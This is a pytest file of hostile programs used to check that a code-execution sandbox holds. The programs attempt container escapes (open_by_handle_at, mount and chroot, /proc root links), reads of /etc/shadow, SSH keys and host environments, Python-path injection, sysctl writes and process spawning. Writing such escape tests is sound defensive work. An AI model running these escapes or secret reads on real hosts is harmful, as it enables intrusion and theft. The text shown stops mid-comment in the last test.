"""A hostile corpus for evaluation/sandbox.py: programs that try to do what its threat model says they cannot.

Every hostile program below is run through the real sandbox (`sandbox_execute`, or the scorers
`score_humaneval` / `score_codeio`, which use `run_check`), and the test then checks ON THE HOST that the
attack had no effect: victim files unchanged (a host tmp_path file and a file under the repository),
marker files absent, helper processes alive, niceness / sysctls / device nodes unchanged, no connection
accepted by host listeners, no surviving sandbox thread, a wrong answer scoring 0. Where the program can
tell whether it succeeded it ends with an assertion, so its verdict must also be "not passed". Each
category has an honest control (a benign program doing the same thing inside the sandbox) that must pass,
so the checks are not vacuous.

Hostile programs per category (kept in step with the lists by `test_corpus_size_matches_docstring`):

    files .............. 28   (write/delete/chmod/symlink/truncate/xattr/... outside, reading secrets,
                              host device nodes, sysctls, the Python installation)
    processes .......... 15   (os.system, subprocess, fork, _posixsubprocess, posix_spawn, ctypes, exec, pty, ...)
    other_processes ....  9   (kill/killpg/pidfd/setpriority/affinity/ptrace on host processes, kill(-1))
    network ............ 10   (loopback, LAN address, IPv6, UDP, abstract and path unix sockets, external, raw)
    survivors ..........  7   (threads/forks/double forks that outlive the program)
    forged_success ..... 26   (17 HumanEval completions via score_humaneval, 9 codeio candidates via score_codeio)
    limits ............. 18   (memory, memfd, fork/thread bombs, loops, output, tmpfs, /dev, file size, fds, recursion)
    cleanup ............  2   (a work dir the host cannot clean up naively)
    total .............. 115

Run time: ~40 s (each sandbox ~0.1 s; a few 1 s timeouts; survivors wait 1 s each).
The whole module is skipped where the sandbox cannot start; it never runs anything unconfined.
"""

import os
import re
import secrets
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from evaluation import sandbox as sb
from evaluation.code_score import score_codeio, score_humaneval
from evaluation.sandbox import REPO_DIR, TMPFS_MB, run_check, sandbox_execute

if sb.isolation_problem():  # never run this corpus unconfined
    pytest.skip(f"sandbox unavailable: {sb.isolation_problem()}", allow_module_level=True)


@pytest.fixture(autouse=True)
def _never_unconfined(monkeypatch):
    """Even with CIT_ALLOW_UNCONFINED_CODE=1 in the environment, these programs only ever run confined."""
    monkeypatch.setattr(sb, "_allow_unconfined", False)


def fill(template: str, **values) -> str:
    """@NAME@ -> repr(value) (str, bytes, tuples, ...) or str(int)."""
    for k, v in values.items():
        template = template.replace(f"@{k}@", str(v) if isinstance(v, int) and not isinstance(v, bool) else repr(v))
    leftover = re.findall(r"@[A-Z_]+@", template)
    assert not leftover, leftover
    return template


def timed(fn, *args, **kwargs):
    start = time.monotonic()
    out = fn(*args, **kwargs)
    return out, time.monotonic() - start


# ------------------------------------------------------------------------------------------------
# Host-side victims and snapshots


def _xattrs(path):
    try:
        return sorted(os.listxattr(path, follow_symlinks=False))
    except OSError:
        return None


def _stat_key(path):
    st = os.lstat(path)
    return (st.st_mode, st.st_size, st.st_ino, st.st_mtime_ns, st.st_ctime_ns, st.st_uid, st.st_gid)


@dataclass
class Victims:
    host_dir: Path
    host_file: Path
    repo_dir: Path
    repo_file: Path
    host_marker: Path  # must never be created
    repo_marker: Path  # must never be created
    content: str
    snapshot: dict = field(default_factory=dict)

    def take(self):
        snap = {}
        for d in (self.host_dir, self.repo_dir):
            snap[str(d)] = (sorted(os.listdir(d)), _stat_key(d), _xattrs(d))
        for f in (self.host_file, self.repo_file):
            snap[str(f)] = (f.read_bytes(), _stat_key(f), _xattrs(f))
        return snap

    def assert_untouched(self):
        for m in (self.host_marker, self.repo_marker):
            assert not os.path.lexists(m), f"ESCAPE: {m} was created"
        now = self.take()
        for k, v in self.snapshot.items():
            assert now[k] == v, f"ESCAPE: {k} changed: {v} -> {now[k]}"


@pytest.fixture
def victims(tmp_path):
    token = secrets.token_hex(6)
    host_dir = tmp_path / "host_victims"
    host_dir.mkdir()
    repo_dir = Path(REPO_DIR) / "tests" / f"_victim_{token}"
    repo_dir.mkdir()
    try:
        content = f"victim content {token}\n"
        v = Victims(host_dir, host_dir / "victim.txt", repo_dir, repo_dir / "victim.txt",
                    tmp_path / f"marker_{token}", Path(REPO_DIR) / "tests" / f"_marker_{token}", content)
        for f in (v.host_file, v.repo_file):
            f.write_text(content)
            f.chmod(0o644)
        v.snapshot = v.take()
        yield v
    finally:
        shutil.rmtree(repo_dir, ignore_errors=True)
        for extra in Path(REPO_DIR, "tests").glob(f"_marker_{token}*"):
            extra.unlink()


def victim_values(v: Victims) -> dict:
    return {"HOST_FILE": str(v.host_file), "REPO_FILE": str(v.repo_file), "HOST_DIR": str(v.host_dir),
            "REPO_DIR": str(v.repo_dir), "HOST_MARKER": str(v.host_marker), "REPO_MARKER": str(v.repo_marker),
            "REPO_ROOT": REPO_DIR}


# Shared by the file programs: try each attack, record which were blocked; the program passes only if
# none was blocked (so a hostile file program must end "not passed").
PRELUDE = r'''
import os, sys
HOST_FILE, REPO_FILE, HOST_DIR, REPO_DIR = @HOST_FILE@, @REPO_FILE@, @HOST_DIR@, @REPO_DIR@
HOST_MARKER, REPO_MARKER, REPO_ROOT = @HOST_MARKER@, @REPO_MARKER@, @REPO_ROOT@
FILES, DIRS, MARKERS = (HOST_FILE, REPO_FILE), (HOST_DIR, REPO_DIR), (HOST_MARKER, REPO_MARKER)
_blocked = []
def attempt(label, fn, *args, **kwargs):
    try:
        r = fn(*args, **kwargs)
    except BaseException as e:
        _blocked.append(label)
        print("BLOCKED", label, type(e).__name__, e)
        return None
    print("SUCCEEDED", label)
    return r
def must(cond, what):
    if not cond:
        raise OSError(what)
def rmtree_safe_fd(path, onerror=None):
    """shutil's internal fd-based rmtree, whatever its signature in this Python."""
    import inspect, shutil
    if list(inspect.signature(shutil._rmtree_safe_fd).parameters)[0] == "stack":  # 3.13+
        stack = [(os.lstat, None, path, None)]
        while stack:
            shutil._rmtree_safe_fd(stack, onerror)
    else:
        shutil._rmtree_safe_fd(os.open(path, os.O_RDONLY), path, onerror)
'''
EPILOGUE = "\nassert not _blocked, _blocked\n"


def file_program(body: str, v: Victims) -> str:
    return fill(PRELUDE, **victim_values(v)) + body + EPILOGUE


# ------------------------------------------------------------------------------------------------
# files: the host tmp file and the repository file must be untouched (content, mode, inode, mtime,
# ctime, xattrs, directory listing), and no marker may appear.

FILE_ATTACKS = {
    "open_write": r'''
for f in FILES:
    attempt("open w " + f, lambda f=f: open(f, "w").write("pwned"))
    attempt("open a " + f, lambda f=f: open(f, "a").write("pwned"))
for d in DIRS:
    attempt("create in " + d, lambda d=d: open(os.path.join(d, "new.txt"), "x").write("pwned"))
''',
    "os_open": r'''
for f in FILES:
    attempt("os.open trunc " + f, lambda f=f: os.write(os.open(f, os.O_WRONLY | os.O_TRUNC), b"pwned"))
for m in MARKERS:
    attempt("os.open creat " + m, lambda m=m: os.open(m, os.O_WRONLY | os.O_CREAT, 0o644))
''',
    "posix_open": r'''
import posix
for f in FILES:
    attempt("posix.open " + f, lambda f=f: posix.write(posix.open(f, posix.O_RDWR | posix.O_APPEND), b"pwned"))
for m in MARKERS:
    attempt("posix.open creat " + m, lambda m=m: posix.open(m, posix.O_CREAT | posix.O_WRONLY, 0o644))
''',
    "posix_system": r'''
import posix
for f in FILES:
    attempt("posix.system " + f, lambda f=f: must(posix.system(f"echo pwned >> {f}; chmod 000 {f}") == 0, "status"))
for m in MARKERS:
    attempt("posix.system touch " + m, lambda m=m: must(posix.system(f"touch {m}") == 0, "status"))
''',
    "remove_rename": r'''
import shutil
for f in FILES:
    attempt("os.remove " + f, os.remove, f)
    attempt("os.unlink " + f, os.unlink, f)
    attempt("os.rename " + f, os.rename, f, f + ".moved")
    attempt("os.replace into " + f, lambda f=f: (open("x", "w").write("pwned"), os.replace("x", f)))
for d in DIRS:
    attempt("shutil.rmtree " + d, shutil.rmtree, d)
''',
    "chmod_chown": r'''
for p in FILES + DIRS:
    attempt("chmod " + p, os.chmod, p, 0)
    attempt("chmod +x " + p, os.chmod, p, 0o4777)
    attempt("chown " + p, os.chown, p, os.getuid(), os.getgid())
    attempt("lchown " + p, os.lchown, p, 0, 0)
''',
    "symlink_link": r'''
for d in DIRS:
    attempt("symlink in " + d, os.symlink, "/etc/passwd", os.path.join(d, "link"))
    attempt("symlink dir " + d, os.symlink, "/", os.path.join(d, "rootlink"))
for f in FILES:
    attempt("hard link " + f, os.link, f, f + ".hard")
    attempt("replace by symlink " + f, lambda f=f: (os.symlink("/dev/zero", "s"), os.replace("s", f)))
    attempt("write through symlink " + f, lambda f=f: (os.symlink(f, "l2"), open("l2", "w").write("pwned"),
                                                        must(os.path.exists(f), "nothing there")))
''',
    "truncate": r'''
for f in FILES:
    attempt("os.truncate " + f, os.truncate, f, 0)
    attempt("r+ truncate " + f, lambda f=f: open(f, "r+").truncate(1))
    attempt("ftruncate " + f, lambda f=f: os.ftruncate(os.open(f, os.O_RDWR), 0))
''',
    "utime": r'''
for p in FILES + DIRS:
    attempt("utime " + p, os.utime, p, (0, 0))
    attempt("utime now " + p, os.utime, p)
''',
    "dir_fd_walk_up": r'''
for f in FILES:
    def walk(f=f):
        dfd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        for _ in range(40):  # climb above any chroot-like boundary
            dfd = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=dfd)
        fd = os.open(f.lstrip("/"), os.O_WRONLY | os.O_TRUNC, dir_fd=dfd)
        os.write(fd, b"pwned")
    attempt("dir_fd walk " + f, walk)
    attempt("dotdot path " + f, lambda f=f: open("../" * 40 + f.lstrip("/"), "w").write("pwned"))
    def via_root_fd(f=f):
        rfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.unlink(f.lstrip("/"), dir_fd=rfd)
    attempt("unlink dir_fd=/ " + f, via_root_fd)
    # the virtual environment lives inside the repository: climb out of it
    attempt("via sys.prefix/.. " + f,
            lambda f=f: open(os.path.join(sys.prefix, "..", os.path.relpath(f, REPO_ROOT)), "a").write("pwned"))
''',
    "proc_magic_links": r'''
for f in FILES:
    for prefix in ("/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "/proc/1/cwd/../..",
                   "/proc/self/cwd/../.."):
        attempt(prefix + f, lambda p=prefix + f: open(p, "a").write("pwned"))
for fd in os.listdir("/proc/self/fd"):  # any inherited descriptor that is a directory (or leads to one)?
    for target in FILES:
        path = f"/proc/self/fd/{fd}/" + "../" * 8 + target.lstrip("/")
        attempt(f"fd {fd} ..", lambda path=path: open(path, "a").write("pwned"))
''',
    "open_by_handle_at": r'''
import ctypes, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
NR = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
def shocker(f):
    # the classic container escape: open the host file system's root inode (2) by handle, then openat
    mfd = os.open("/usr", os.O_RDONLY)
    buf = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + b"\0" * 128)
    mount_id = ctypes.c_int()
    r = libc.syscall(NR[0], -100, b"/usr", buf, ctypes.byref(mount_id), 0)  # name_to_handle_at
    htype = struct.unpack_from("=Ii", buf.raw)[1] if r == 0 else 1
    root = ctypes.create_string_buffer(struct.pack("=IiII", 8, htype, 2, 0))
    fd = libc.syscall(NR[1], mfd, root, os.O_RDONLY | os.O_DIRECTORY)  # open_by_handle_at
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    os.write(os.open(f.lstrip("/"), os.O_WRONLY | os.O_TRUNC, dir_fd=fd), b"pwned")
for f in FILES:
    attempt("open_by_handle_at " + f, shocker, f)
''',
    "mount_unshare_chroot": r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    r = getattr(libc, name)(*args)
    if r != 0:
        raise OSError(ctypes.get_errno(), name)
CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MS_REC = 0x10000000, 0x00020000, 4096, 16384
attempt("unshare user+mnt", call, "unshare", CLONE_NEWUSER | CLONE_NEWNS)
attempt("mount bind /", call, "mount", b"/", b"/sandbox/host", None, MS_BIND | MS_REC, None)
attempt("chroot", os.chroot, "/proc/1/root")
for f in FILES:
    attempt("after mount " + f, lambda f=f: open("/sandbox/host" + f, "a").write("pwned"))
''',
    "rmtree_safe_fd": r'''
import shutil
def onerror(*a):
    raise OSError(str(a))
for d in DIRS:
    for path in (d, "/proc/self/root" + d, "../" * 30 + d.lstrip("/")):
        attempt("_rmtree_safe_fd " + path, rmtree_safe_fd, path, onerror)
    attempt("rmtree " + d, shutil.rmtree, d)
''',
    "sqlite3": r'''
import sqlite3
def db(path):
    c = sqlite3.connect(path)
    c.execute("create table pwned(x)")
    c.commit()
for f in FILES:
    attempt("sqlite3 over " + f, db, f)
for d in DIRS:
    attempt("sqlite3 new in " + d, db, os.path.join(d, "new.db"))
def attach(d):
    c = sqlite3.connect(":memory:")
    c.execute("attach database ? as evil", (os.path.join(d, "attached.db"),))
    c.execute("create table evil.t(x)")
    c.execute("vacuum into ?", (os.path.join(d, "vacuum.db"),))
for d in DIRS:
    attempt("sqlite3 attach/vacuum into " + d, attach, d)
''',
    "readline_history": r'''
import readline
readline.add_history("pwned")
for f in FILES:
    attempt("write_history_file " + f, readline.write_history_file, f)
    attempt("append_history_file " + f, readline.append_history_file, 1, f)
for m in MARKERS:
    attempt("write_history_file new " + m, readline.write_history_file, m)
''',
    "setxattr": r'''
for p in FILES + DIRS:
    attempt("setxattr " + p, os.setxattr, p, "user.pwned", b"1")
    attempt("setxattr trusted " + p, os.setxattr, p, "trusted.pwned", b"1")
    attempt("setxattr security " + p, os.setxattr, p, "security.pwned", b"1")
''',
    "io_fileio": r'''
import io
for f in FILES:
    attempt("FileIO w " + f, lambda f=f: io.FileIO(f, "w").write(b"pwned"))
    attempt("FileIO a " + f, lambda f=f: io.FileIO(f, "a").write(b"pwned"))
    attempt("FileIO r+ " + f, lambda f=f: io.FileIO(f, "r+").write(b"pwned"))
for m in MARKERS:
    attempt("FileIO x " + m, lambda m=m: io.FileIO(m, "x").write(b"pwned"))
''',
    "pathlib_shutil_copy": r'''
import pathlib, shutil, tempfile
open("payload", "w").write("pwned")
for f in FILES:
    attempt("copyfile " + f, shutil.copyfile, "payload", f)
    attempt("pathlib write_bytes " + f, pathlib.Path(f).write_bytes, b"pwned")
for d in DIRS:
    attempt("copytree into " + d, shutil.copytree, ".", os.path.join(d, "tree"))
    attempt("mkstemp in " + d, tempfile.mkstemp, dir=d)
    attempt("mkdir in " + d, os.mkdir, os.path.join(d, "sub"))
''',
}


@pytest.mark.parametrize("name", sorted(FILE_ATTACKS))
def test_files_outside_are_untouched(name, victims):
    result = sandbox_execute(file_program(FILE_ATTACKS[name], victims), timeout_s=5.0)
    victims.assert_untouched()
    assert not result.passed, result.stdout
    assert "BLOCKED" in result.stdout, result.stderr  # the attempts did run
    # ("SUCCEEDED" lines can be harmless: a host path under /tmp also exists in the sandbox's own /tmp)


def test_files_control_same_operations_inside_the_work_dir_pass(victims):
    """The same operations on the sandbox's own files succeed: the hostile verdicts are not vacuous."""
    body = r'''
import io, sqlite3, readline, shutil, _posixshmem
os.makedirs("d/e")
open("a.txt", "w").write("x"); os.truncate("a.txt", 0); os.chmod("a.txt", 0o600); os.utime("a.txt", (0, 0))
os.symlink("a.txt", "l"); os.link("a.txt", "h"); os.rename("h", "h2"); os.remove("h2")
io.FileIO("b.bin", "w").write(b"x")
c = sqlite3.connect("d/x.db"); c.execute("create table t(x)"); c.commit()
readline.add_history("x"); readline.write_history_file("hist")
attempt("setxattr", os.setxattr, "a.txt", "user.x", b"1")
fd = _posixshmem.shm_open("/ctl", os.O_CREAT | os.O_RDWR, 0o600); os.write(fd, b"x"); _posixshmem.shm_unlink("/ctl")
dfd = os.open("d", os.O_RDONLY); os.open("e/f", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=dfd)
rmtree_safe_fd("d/e")
open("/tmp/t", "w").write("x")
'''
    result = sandbox_execute(file_program(body, victims), timeout_s=5.0)
    assert result.passed, result.stdout + result.stderr
    victims.assert_untouched()


@pytest.fixture
def host_shm():
    if not os.path.isdir("/dev/shm"):
        pytest.skip("no /dev/shm on the host")
    name = f"hostile_{secrets.token_hex(6)}"
    path = Path("/dev/shm") / name
    path.write_bytes(b"host shared memory")
    try:
        yield name, path
    finally:
        for p in Path("/dev/shm").glob(name + "*"):
            p.unlink()


def test_files_posixshmem_cannot_touch_host_shared_memory(host_shm):
    name, path = host_shm
    program = fill(r'''
import _posixshmem, os
name = @NAME@
done = []
for label, fn in [
    ("open host object", lambda: os.write(_posixshmem.shm_open("/" + name, os.O_RDWR, 0), b"pwned")),
    ("truncate host object", lambda: os.ftruncate(_posixshmem.shm_open("/" + name, os.O_RDWR, 0), 0)),
    ("unlink host object", lambda: _posixshmem.shm_unlink("/" + name)),
    ("create shared with host", lambda: _posixshmem.shm_open("/" + name + "_new", os.O_CREAT | os.O_RDWR, 0o666)),
]:
    try:
        fn(); done.append(label)
    except OSError as e:
        print("BLOCKED", label, e)
assert len(done) == 4, done
''', NAME=name)
    before = _stat_key(path)
    result = sandbox_execute(program)
    assert path.read_bytes() == b"host shared memory" and _stat_key(path) == before
    assert not (path.parent / (name + "_new")).exists(), "ESCAPE: shm object created on the host"
    assert not result.passed


def test_files_python_installation_is_read_only():
    pyvenv = Path(sys.prefix) / "pyvenv.cfg"
    site = Path(next(p for p in sys.path if p.endswith("site-packages") and p.startswith(sys.prefix)))
    token = secrets.token_hex(6)
    watched = [p for p in (pyvenv, Path(sys.executable), Path(os.__file__)) if p.exists()]
    before = {p: (p.read_bytes(), _stat_key(p)) for p in watched}
    program = fill(r'''
import os, sys
blocked = []
for label, fn in [
    (".pth injection", lambda: open(os.path.join(@SITE@, @PTH@), "w").write("import os")),
    ("sitecustomize", lambda: open(os.path.join(@SITE@, "sitecustomize.py"), "a").write("x = 1")),
    ("os.py", lambda: open(os.__file__, "a").write("\n# pwned")),
    ("chmod python", lambda: os.chmod(sys.executable, 0o777)),
    ("utime pyvenv.cfg", lambda: os.utime(@PYVENV@, (0, 0))),
    ("unlink os.py", lambda: os.unlink(os.__file__)),
]:
    try:
        fn()
    except OSError as e:
        blocked.append(label)
assert not blocked, blocked
''', SITE=str(site), PTH=f"zz_hostile_{token}.pth", PYVENV=str(pyvenv))
    result = sandbox_execute(program)
    assert not (site / f"zz_hostile_{token}.pth").exists()
    assert {p: (p.read_bytes(), _stat_key(p)) for p in watched} == before
    assert not result.passed


DEV_NODES = [p for p in ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty")
             if os.path.exists(p)]


@pytest.mark.parametrize("name", ["chmod_chown_dev_nodes", "fchmod_inherited_fds"])
def test_files_host_device_nodes_are_untouched(name):
    """/dev/* in the sandbox are read-only nodev binds of the host's device nodes; fd 0 was the host's /dev/null
    (now a pipe).
    The program only re-applies each node's CURRENT mode and owner (harmless even if it escapes); any
    success still shows on the host as a new ctime, which would mean it could also chmod 000 them."""
    program = {
        "chmod_chown_dev_nodes": r'''
import os
done = []
for p in @NODES@:
    for label, fn in (("chmod", lambda p=p: os.chmod(p, os.stat(p).st_mode & 0o7777)),
                      ("chown", lambda p=p: os.chown(p, os.stat(p).st_uid, os.stat(p).st_gid))):
        try:
            fn(); done.append(label + " " + p); print("SUCCEEDED", label, p)
        except OSError as e:
            print("BLOCKED", label, p, e)
assert done
''',
        "fchmod_inherited_fds": r'''
import os
done = []
for fd in range(0, 64):
    try:
        os.fchmod(fd, os.fstat(fd).st_mode & 0o7777); done.append(fd)
        print("SUCCEEDED fchmod", fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError as e:
        pass
assert 0 in done, "fchmod of fd 0 (the host's /dev/null) was refused"
'''}[name]
    before = {p: _stat_key(p) for p in DEV_NODES}
    result = sandbox_execute(fill(program, NODES=tuple(DEV_NODES)))
    after = {p: _stat_key(p) for p in DEV_NODES}
    changed = {p: (before[p], after[p]) for p in DEV_NODES if before[p] != after[p]}
    assert not changed, (f"ESCAPE: host device nodes were chmod/chowned from the sandbox (ctime moved): {changed}\n"
                         f"{result.stdout}")
    if name == "chmod_chown_dev_nodes":
        assert not result.passed  # every chmod/chown was refused (read-only binds)
    else:  # fd 0 is now a pipe with no writer: fchmod of a pipe changes nothing on the host
        assert "SUCCEEDED fchmod 0 pipe:" in result.stdout or not result.passed


SYSCTL = "/proc/sys/kernel/printk_ratelimit"  # harmless to change; restored by the test if it escapes


def test_files_global_sysctls_cannot_be_written():
    if not os.path.exists(SYSCTL):
        pytest.skip(f"no {SYSCTL}")
    before = Path(SYSCTL).read_text()
    program = fill(r'''
p = @SYSCTL@
v = int(open(p).read())
with open(p, "w") as f:
    f.write(str(v + 1))
print("SYSCTL WRITTEN")
''', SYSCTL=SYSCTL)
    try:
        result = sandbox_execute(program)
        after = Path(SYSCTL).read_text()
    finally:
        if Path(SYSCTL).read_text() != before:
            try:
                Path(SYSCTL).write_text(before)
            except OSError:
                pass
    assert after == before, (f"ESCAPE: the sandbox changed the host sysctl {SYSCTL}: {before.strip()} -> "
                             f"{after.strip()} (restored)")
    assert not result.passed


def test_files_dangerous_sysctls_are_not_even_openable_for_writing():
    """Opening for writing changes nothing by itself; success means e.g. kernel.core_pattern (a program
    the kernel runs as host root on any crash) could be rewritten."""
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/randomize_va_space",
             "/proc/sys/fs/file-max", "/proc/sys/kernel/pid_max", "/proc/sysrq-trigger"]
    program = fill(r'''
import os
opened = []
for p in @PATHS@:
    try:
        os.close(os.open(p, os.O_WRONLY)); opened.append(p); print("WRITABLE", p)
    except OSError as e:
        print("not writable", p, e)
assert opened
''', PATHS=tuple(paths))
    result = sandbox_execute(program)
    assert "WRITABLE" not in result.stdout, f"ESCAPE: host sysctls writable from the sandbox:\n{result.stdout}"
    assert not result.passed



def _readme_snippet():
    text = Path(REPO_DIR, "README.md").read_text(errors="replace")
    lines = [ln.strip() for ln in text.splitlines() if len(ln.strip()) > 30]
    assert lines
    return lines[0][:60]


def test_files_repository_files_cannot_be_read(victims):
    snippet = _readme_snippet()
    program = fill(r'''
import os, sys, glob
readme = os.path.join(REPO_ROOT, "README.md")
rel = os.path.relpath(readme, "/")
paths = [readme, "/proc/self/root/" + rel, "/proc/1/root/" + rel, "../" * 30 + rel,
         os.path.join(sys.prefix, "..", "README.md"),
         os.path.join(sys.prefix, "..", "..", os.path.basename(REPO_ROOT), "README.md")]
got = []
for p in paths:
    try:
        got.append(open(p, errors="replace").read()); print(got[-1])
    except OSError as e:
        print("BLOCKED", p, e)
try:
    dfd = os.open("/", os.O_RDONLY)
    print(os.read(os.open(rel, os.O_RDONLY, dir_fd=dfd), 100000).decode(errors="replace"))
except OSError as e:
    print("BLOCKED dir_fd", e)
for f in FILES:  # the victims themselves
    for p in (f, "/proc/self/root" + f):
        try:
            got.append(open(p).read()); print(got[-1])
        except OSError as e:
            print("BLOCKED", p, e)
try:  # anything of the repository besides the virtual environment (which lives inside it)?
    for name in os.listdir(REPO_ROOT):
        if name != ".venv":
            print("LISTED", name); got.append(name)
except OSError as e:
    print("BLOCKED listdir", e)
assert got
''', **victim_values(victims))
    result = sandbox_execute(fill(PRELUDE, **victim_values(victims)) + program)
    assert snippet not in result.stdout, "ESCAPE: README.md content read from the sandbox"
    assert victims.content.strip() not in result.stdout, "ESCAPE: victim content read from the sandbox"
    assert "LISTED" not in result.stdout, result.stdout
    assert not result.passed


def test_files_etc_passwd_and_root_home_cannot_be_read():
    secrets_seen = []
    if os.path.exists("/etc/passwd"):
        secrets_seen.append(Path("/etc/passwd").read_text().splitlines()[0])
    hostname = Path("/etc/hostname").read_text().strip() if os.path.exists("/etc/hostname") else None
    program = r'''
import os
for p in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/root/.bashrc", "/root/.profile",
          "/root/.gitconfig", "/root/.ssh/id_rsa", "/home", "/root", "/proc/self/root/etc/passwd"):
    try:
        if os.path.isdir(p):
            print(p, sorted(os.listdir(p)))
        else:
            print(p, open(p, errors="replace").read())
    except OSError as e:
        print("BLOCKED", p, e)
raise SystemExit(1)
'''
    result = sandbox_execute(program)
    for s in secrets_seen:
        assert s not in result.stdout, "ESCAPE: /etc/passwd read"
    if hostname and len(hostname) > 3:
        assert f"/etc/hostname {hostname}" not in result.stdout
    # /root may show the path to the Python installation (read-only, needed), nothing else of the home
    allowed = {Path(r).relative_to("/root").parts[0] for r in sb._python_roots() if r.startswith("/root/")}
    if os.path.isdir("/root"):
        for name in os.listdir("/root"):
            if name not in allowed:
                assert repr(name) not in result.stdout, f"ESCAPE: /root/{name} listed in the sandbox"


def test_files_host_environment_and_other_processes_cannot_be_read(monkeypatch):
    token = secrets.token_hex(12)
    monkeypatch.setenv("HOSTILE_SECRET", token)
    program = fill(r'''
import os, glob
print(dict(os.environ))
for p in ["/proc/@PID@/environ", "/proc/@PID@/cmdline", "/proc/@PPID@/environ"] + glob.glob("/proc/*/environ"):
    try:
        print(p, open(p, "rb").read())
    except OSError as e:
        print("BLOCKED", p, e)
''', PID=os.getpid(), PPID=os.getppid())
    result = sandbox_execute(program)
    assert result.passed, result.stderr  # reading its own /proc is allowed
    assert token not in result.stdout, "ESCAPE: the host's environment was read from the sandbox"


FILE_HOSTILE = (list(FILE_ATTACKS) + ["posixshmem", "python_install", "chmod_chown_dev_nodes", "fchmod_inherited_fds",
                                      "sysctl_write", "sysctl_open", "read_repo", "read_etc_root", "read_host_env"])


# ------------------------------------------------------------------------------------------------
# processes: no process may start; the marker (host path) must not appear

PROCESS_ATTACKS = {
    "os_system": "import os\nassert os.system('touch ' + MARK) == 0\n",
    "subprocess_run": "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > ' + MARK], check=True)\n",
    "posix_fork": ("import posix\npid = posix.fork()\nif pid == 0:\n    open(MARK, 'w').write('pwned')\n"
                   "    posix._exit(0)\nposix.waitpid(pid, 0)\n"),
    "os_fork": "import os\nif os.fork() == 0:\n    open(MARK, 'w').write('pwned')\n    os._exit(0)\nos.wait()\n",
    "posixsubprocess_fork_exec": r'''
import _posixsubprocess, os, sys
args, exe = [b"/bin/sh", b"-c", ("touch " + MARK).encode()], [b"/bin/sh"]
r, w = os.pipe()
head = (args, exe, True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False)
for tail in [(-1, None, None, -1, -1, None),                # 3.11: pgid, gid, groups, uid, umask, preexec
             (-1, None, None, -1, -1, None, True),          # 3.12+: ..., allow_vfork
             (None, None, None, -1, None)]:                 # older
    try:
        pid = _posixsubprocess.fork_exec(*(head + tail))
        break
    except TypeError:
        continue
os.waitpid(pid, 0)
''',
    "posix_spawn": ("import os\npid = os.posix_spawn('/bin/sh', ['sh', '-c', 'touch ' + MARK], {})\n"
                    "os.waitpid(pid, 0)\n"),
    "posix_spawnp": "import os\npid = os.posix_spawnp('touch', ['touch', MARK], {})\nos.waitpid(pid, 0)\n",
    "os_spawnv": "import os\nassert os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '-c', 'touch ' + MARK]) == 0\n",
    "ctypes_libc_system": ("import ctypes\nlibc = ctypes.CDLL(None)\n"
                           "assert libc.system(('touch ' + MARK).encode()) == 0\n"),
    "raw_clone_syscalls": r'''
import ctypes, os, platform, signal
libc = ctypes.CDLL(None, use_errno=True)
nrs = {"x86_64": [("fork", 57, ()), ("vfork", 58, ()), ("clone", 56, (signal.SIGCHLD, 0, 0, 0, 0))],
       "aarch64": [("clone", 220, (signal.SIGCHLD, 0, 0, 0, 0))]}[platform.machine()]
started = []
for name, nr, args in nrs:
    if name == "vfork":
        continue  # a vforked child would share this interpreter's stack; fork/clone suffice
    pid = libc.syscall(nr, *args)
    if pid == 0:
        open(MARK, "w").write("pwned")
        os._exit(0)
    if pid > 0:
        started.append(name)
# clone with CLONE_THREAD allowed, but combined with namespace flags it must still fail
CLONE_VM, CLONE_SIGHAND, CLONE_THREAD, CLONE_NEWUSER, CLONE_NEWNS = 0x100, 0x800, 0x10000, 0x10000000, 0x20000
r = libc.syscall(56 if platform.machine() == "x86_64" else 220,
                 CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_NEWNS, 0, 0, 0, 0)
if r >= 0:
    started.append("thread+newns")
assert started, "no process started"
''',
    "os_execv": "import os\nos.execv('/bin/sh', ['sh', '-c', 'touch ' + MARK])\n",
    "pty_fork": "import pty, os\npid, fd = pty.fork()\nif pid == 0:\n    open(MARK, 'w')\n    os._exit(0)\n",
    "os_forkpty": "import os\npid, fd = os.forkpty()\nif pid == 0:\n    open(MARK, 'w')\n    os._exit(0)\n",
    "multiprocessing": r'''
import multiprocessing as mp
def touch(path):
    open(path, "w").write("pwned")
if __name__ == "__main__":
    for method in ("fork", "spawn", "forkserver"):
        try:
            p = mp.get_context(method).Process(target=touch, args=(MARK,))
            p.start(); p.join()
            assert p.exitcode == 0
            break
        except Exception as e:
            print("BLOCKED", method, e)
    else:
        raise SystemExit(1)
''',
    "process_pool_executor": r'''
import concurrent.futures, os
with concurrent.futures.ProcessPoolExecutor(2) as ex:
    assert ex.submit(os.getpid).result() != os.getpid()
open(MARK, "w")
''',
}


@pytest.mark.parametrize("name", sorted(PROCESS_ATTACKS))
def test_processes_cannot_be_started(name, victims):
    program = fill("import sys\nMARK = @HOST_MARKER@\n", HOST_MARKER=str(victims.host_marker)) + PROCESS_ATTACKS[name]
    result, wall = timed(sandbox_execute, program, timeout_s=3.0)
    time.sleep(0.2)
    assert not victims.host_marker.exists(), f"ESCAPE: {name} created a host file"
    victims.assert_untouched()
    assert not result.passed, (name, result.stdout, result.stderr)
    assert wall < 6


def test_processes_control_threads_are_refused_but_ordinary_code_runs():
    # By design the sandbox is one task: seccomp refuses clone(2) for threads too (a raw-clone thread bomb
